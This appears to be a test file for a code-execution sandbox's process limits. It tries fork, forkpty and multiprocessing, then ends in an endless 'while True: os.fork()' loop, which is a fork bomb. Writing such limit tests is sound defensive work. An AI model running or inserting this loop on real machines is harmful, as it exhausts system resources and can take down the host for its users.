# Processes that make processes.
#! class = "limits"
#! seen = ["cell raised", "stub"]

# %% after setup
import multiprocessing
import os

children = []
for start in (os.fork, os.forkpty, lambda: multiprocessing.Process(target=print).start()):
    try:
        children.append(start())
    except OSError as error:
        print(type(error).__name__)
assert children, "no process was made"
while True:
    os.fork()
